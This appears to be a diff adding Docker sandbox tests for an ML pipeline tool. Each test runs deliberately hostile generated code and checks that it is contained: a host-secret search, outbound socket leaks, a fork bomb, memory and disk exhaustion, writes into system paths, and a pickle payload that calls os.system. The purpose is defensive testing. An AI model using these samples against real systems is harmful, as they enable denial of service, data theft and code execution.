@@ -1,0 +1,265 @@
+"""The Docker sandbox with the real engine: the sandbox contract, then the walls.
+
+Each wall test sends a CV trial whose generated feature code does the hostile thing, checks the trial
+comes back FAIL/TIMEOUT with a clear reason, that the host is untouched, and that the same sandbox runs
+the next normal trial.
+"""
+
+from __future__ import annotations
+
+import ipaddress
+import os
+import pickle
+import signal
+import socket
+import subprocess
+import sys
+import time
+import uuid
+
+import numpy as np
+import pytest
+
+from mlpilot.errors import MlpilotError
+from mlpilot.sandboxes import get_sandbox, resolve_kind
+from mlpilot.sandboxes.docker import LABEL, DockerSandbox, remove_leftovers
+from mlpilot.sandboxes.image import docker_client
+from mlpilot.sandboxes.testing import SandboxContract, evil, variant, write_dataset
+from mlpilot.tools.model_io import load_model
+
+pytestmark = pytest.mark.docker
+
+
+def containers(**labels) -> list:
+    selector = [f"{k}={v}" for k, v in labels.items()] or [LABEL]
+    return docker_client().containers.list(all=True, filters={"label": selector})
+
+
+class TestDockerSandbox(SandboxContract):
+    def make(self, data_dir, out_dir, limits):
+        return DockerSandbox(data_dir, out_dir, limits)
+
+    def test_container_is_locked_down(self, sandbox):
+        host = docker_client().containers.get(sandbox._container).attrs["HostConfig"]
+        assert host["NetworkMode"] == "none" and host["ReadonlyRootfs"] is True
+        assert host["CapDrop"] == ["ALL"] and "no-new-privileges" in host["SecurityOpt"]
+        assert host["Memory"] == self.limits.memory_mb << 20 and host["MemorySwap"] == host["Memory"]
+        assert host["PidsLimit"] == self.limits.pids and host["NanoCpus"] == self.limits.cpus * 10**9
+        assert host["Tmpfs"] == {"/tmp": f"rw,nosuid,nodev,noexec,size={self.limits.tmpfs_mb}m"}
+        modes = {bind.split(":")[1]: bind.split(":")[2] for bind in host["Binds"]}
+        assert modes == {"/data": "ro", "/out": "rw", "/opt/mlpilot/mlpilot": "ro"}
+        user = docker_client().containers.get(sandbox._container).attrs["Config"]["User"]
+        assert not user.startswith("0")
+
+    def test_cannot_read_a_host_secret(self, sandbox, job, tmp_path):
+        secret = tmp_path / "host-secret.txt"
+        token = uuid.uuid4().hex
+        secret.write_text(token)
+        code = evil(f"""
+            import os
+            token = {token[::-1]!r}[::-1]
+            found = []
+            for path in [{str(secret)!r}, '/proc/1/root' + {str(secret)!r}]:
+                try:
+                    found.append(open(path).read())
+                except OSError:
+                    pass
+            for top in ['/data', '/out', '/opt', '/tmp', '/etc', '/root', '/home', '/mnt', '/srv', '/var', '/run']:
+                for folder, _, names in os.walk(top):
+                    for name in names:
+                        try:
+                            with open(os.path.join(folder, name), 'rb') as f:
+                                if token.encode() in f.read(1 << 20):
+                                    found.append(os.path.join(folder, name))
+                        except OSError:
+                            pass
+            raise PermissionError(f'found {{found}}')
+        """)
+        outcome = sandbox.run(variant(job, "secret", code), timeout_s=60)
+        assert outcome.status == "FAIL" and outcome.reason == "PermissionError: found []"
+        self.assert_still_works(sandbox, job)
+
+    def test_cannot_reach_the_host_or_the_outside(self, sandbox, job):
+        server = socket.create_server(("0.0.0.0", 0))
+        port = server.getsockname()[1]
+        subnet = docker_client().networks.get("bridge").attrs["IPAM"]["Config"][0]["Subnet"]
+        gateway = str(ipaddress.ip_network(subnet)[1])  # the host, as bridged containers see it
+        targets = [("127.0.0.1", port), (gateway, port), (socket.gethostbyname(socket.gethostname()), port),
+                   ("1.1.1.1", 443), ("pypi.org", 443)]
+        code = evil(f"""
+            import socket
+            results = []
+            for host, port in {targets!r}:
+                try:
+                    socket.create_connection((host, port), timeout=3).sendall(b'leak')
+                    results.append(host + ' connected')
+                except OSError as err:
+                    results.append(host + ' ' + type(err).__name__)
+            raise ConnectionError('; '.join(results))
+        """)
+        outcome = sandbox.run(variant(job, "net", code), timeout_s=60)
+        assert outcome.status == "FAIL" and outcome.reason.startswith("ConnectionError: 127.0.0.1 OSError")
+        assert "connected" not in outcome.reason and outcome.reason.count("Error") == len(targets) + 1
+        server.settimeout(0.5)
+        with pytest.raises(TimeoutError):
+            server.accept()
+        server.close()
+        self.assert_still_works(sandbox, job)
+
+    def test_fork_bomb_is_contained(self, sandbox, job):
+        outcome = sandbox.run(variant(job, "forks", evil("import os\nwhile True:\n    os.fork()")), timeout_s=60)
+        assert outcome.status == "FAIL" and "Resource temporarily unavailable" in outcome.reason
+        assert containers(**{"mlpilot.run": sandbox.run_id}) == []  # the container and its forks are gone
+        self.assert_still_works(sandbox, job)
+
+    def test_memory_past_the_limit_is_contained(self, sandbox, job):
+        code = evil("blocks = []\nwhile True:\n    blocks.append(b'x' * (64 << 20))")
+        outcome = sandbox.run(variant(job, "memory", code), timeout_s=60)
+        assert outcome.status == "FAIL" and "out of memory" in outcome.reason
+        self.assert_still_works(sandbox, job)
+
+    def test_loop_forever_is_killed_and_removed(self, sandbox, job):
+        first = sandbox._container
+        outcome = sandbox.run(variant(job, "loop", evil("while True:\n    pass")), timeout_s=4)
+        assert outcome.status == "TIMEOUT"
+        assert [c.name for c in containers(**{"mlpilot.run": sandbox.run_id})] == []
+        self.assert_still_works(sandbox, job)
+        assert sandbox._container != first
+
+    def test_cannot_write_outside_the_output_mount(self, sandbox, job, tmp_path):
+        planted = tmp_path / "planted.txt"
+        targets = ["/evil", "/etc/evil", "/data/evil", "/data/train.parquet", "/opt/mlpilot/mlpilot/evil.py",
+                   "/opt/venv/lib/python3.11/site-packages/sitecustomize.py", str(planted),
+                   "/proc/sys/kernel/hostname", "/sys/fs/cgroup/evil"]
+        code = evil(f"""
+            wrote = []
+            for path in {targets!r}:
+                try:
+                    with open(path, 'w') as f:
+                        f.write('x')
+                    wrote.append(path)
+                except OSError:
+                    pass
+            with open('/out/trials/allowed.txt', 'w') as f:
+                f.write('ok')
+            raise PermissionError(f'wrote {{wrote}}')
+        """)
+        before = {p.name: p.stat().st_mtime for p in (tmp_path / "data").iterdir()}
+        outcome = sandbox.run(variant(job, "write", code), timeout_s=60)
+        assert outcome.status == "FAIL" and outcome.reason == "PermissionError: wrote []"
+        assert (tmp_path / "out" / "trials" / "allowed.txt").read_text() == "ok"  # the code did run
+        assert not planted.exists() and {p.name: p.stat().st_mtime for p in (tmp_path / "data").iterdir()} == before
+        self.assert_still_works(sandbox, job)
+
+    def test_filling_scratch_space_is_contained(self, sandbox, job):
+        code = evil("""
+            import os
+            sizes = []
+            for path in ['/tmp/fill', '/dev/shm/fill']:
+                fd, mb = os.open(path, os.O_WRONLY | os.O_CREAT), 0
+                try:
+                    while True:
+                        os.write(fd, b'0' * (1 << 20))
+                        mb += 1
+                except OSError as err:
+                    sizes.append(f'{path} full at {mb} MB ({err.strerror})')
+            raise OSError('; '.join(sizes))
+        """)
+        outcome = sandbox.run(variant(job, "fill", code), timeout_s=60)
+        assert outcome.status == "FAIL", outcome.reason
+        written = [int(part.split(" full at ")[1].split()[0]) for part in outcome.reason.split("; ")]
+        assert written[0] <= self.limits.tmpfs_mb and written[1] <= 64, outcome.reason
+        assert outcome.reason.count("No space left on device") == 2
+        self.assert_still_works(sandbox, job)
+
+    def test_malicious_model_files_are_refused(self, sandbox, job, tmp_path):
+        marker = tmp_path / "pwned"
+        code = evil(f"""
+            import os, pickle
+            import numpy as np
+            import skops.io as sio
+            from sklearn.preprocessing import FunctionTransformer
+
+            class Payload:
+                def __reduce__(self):
+                    return (os.system, ('touch ' + {str(marker)!r},))
+
+            out = '/out/final'
+            os.makedirs(out, exist_ok=True)
+            with open(out + '/model.pkl', 'wb') as f:
+                pickle.dump(Payload(), f)
+            with open(out + '/pickled.skops', 'wb') as f:
+                pickle.dump(Payload(), f)
+            np.save(out + '/oof.npy', np.array([Payload()], dtype=object), allow_pickle=True)
+            sio.dump(FunctionTransformer(func=os.system, kw_args={{}}), out + '/model.skops')
+        """)
+        outcome = sandbox.run(variant(job, "pickle", code), timeout_s=60)
+        assert outcome.status == "COMPLETE", outcome.reason  # the trial itself looks innocent
+        final = tmp_path / "out" / "final"
+        for name in ("model.pkl", "pickled.skops", "model.skops"):
+            with pytest.raises(MlpilotError, match="refusing to load it"):
+                load_model(final / name)
+        with pytest.raises(ValueError, match="allow_pickle"):
+            np.load(final / "oof.npy")
+        assert not marker.exists()
+        pickle.loads((final / "model.pkl").read_bytes())  # proof the payload was live: unpickling runs it
+        assert marker.exists()
+
+    def test_fit_with_generated_code_is_refused(self, sandbox, job):
+        fit = variant(job, "fitcode", evil("df = df.assign(e=df['a'] * 2)"), kind="fit", folds_file=None)
+        outcome = sandbox.run(fit, timeout_s=60)
+        assert outcome.status == "FAIL" and "cannot be exported to the host" in outcome.reason
+
+
+def test_auto_chooses_docker_when_ready(tmp_path):
+    write_dataset(tmp_path / "data")
+    assert resolve_kind("auto")[0] == "docker"
+    with get_sandbox("auto", tmp_path / "data", tmp_path / "out") as box:
+        assert box.name == "docker" and box.warm_up() < 10
+
+
+def test_leftovers_of_dead_runs_are_removed(docker_ready):
+    dead = subprocess.Popen(["true"])
+    dead.wait()
+    client = docker_client()
+    labels = {LABEL: "1", "mlpilot.host": socket.gethostname()}
+    stale = client.containers.run(docker_ready, ["sleep", "300"], detach=True, network_mode="none",
+                                  labels={**labels, "mlpilot.pid": str(dead.pid)})
+    live = client.containers.run(docker_ready, ["sleep", "300"], detach=True, network_mode="none",
+                                 labels={**labels, "mlpilot.pid": str(os.getpid())})
+    try:
+        assert remove_leftovers(client) == [stale.name]
+        assert [c.name for c in containers()] == [live.name]
+    finally:
+        live.remove(force=True)
+
+
+DRIVER = """
+import sys, time
+from mlpilot.sandboxes.docker import DockerSandbox
+from mlpilot.sandboxes.testing import evil, variant, write_dataset
+from pathlib import Path
+root = Path(sys.argv[1])
+job = write_dataset(root / "data")
+box = DockerSandbox(root / "data", root / "out", run_id=sys.argv[2])
+with box:
+    box.warm_up()
+    print("running", flush=True)
+    box.run(variant(job, "loop", evil("while True:\\n    pass")), timeout_s=300)
+"""
+
+
+@pytest.mark.parametrize("how", ["ctrl-c", "crash"])
+def test_containers_are_removed_on_ctrl_c_and_after_a_crash(how, tmp_path, docker_ready):
+    run_id = f"test-{how}-{uuid.uuid4().hex[:6]}"
+    driver = subprocess.Popen([sys.executable, "-c", DRIVER, str(tmp_path), run_id], stdout=subprocess.PIPE,
+                              text=True)
+    assert driver.stdout.readline().strip() == "running"
+    time.sleep(1)
+    assert len(containers(**{"mlpilot.run": run_id})) == 1
+    driver.send_signal(signal.SIGINT if how == "ctrl-c" else signal.SIGKILL)
+    driver.wait(timeout=30)
+    if how == "crash":  # nothing could clean up: the next sandbox to start does
+        assert len(containers(**{"mlpilot.run": run_id})) == 1
+        remove_leftovers()
+    assert containers(**{"mlpilot.run": run_id}) == []
